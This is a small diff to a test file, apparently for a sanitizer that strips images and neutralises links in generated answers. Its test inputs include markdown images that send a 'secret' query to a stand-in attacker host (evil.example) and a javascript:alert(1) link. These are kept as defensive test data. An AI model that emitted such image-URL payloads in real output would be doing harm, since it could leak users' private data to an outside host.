@@ -172,7 +172,7 @@ describe('figures of an answer', () => {
 describe('addresses in an answer', () => {
   it.each([
     ['![a](https://evil.example/p.png?q=secret) x', '*[image removed]* x'],
-    ['![a][r] x\n\n[r]: https://evil.example/p?q=1', '*[image removed]*[a][r] x\n\n[r]: `evil.example`'],
+    ['![a][r] x\n\n[r]: https://evil.example/p?q=1', '*[image removed]*[a][r] x\n\n[r]\\: `evil.example`'],
     ['See [the filing](https://evil.example/a?b=c).', 'See the filing (`evil.example`).'],
     ['See [it](//evil.example/a) [me](javascript:alert(1))', 'See it (`evil.example`) me'],
     ['At https://evil.example/a?b=c, or www.evil.example/x.', 'At `evil.example`, or `www.evil.example`.'],
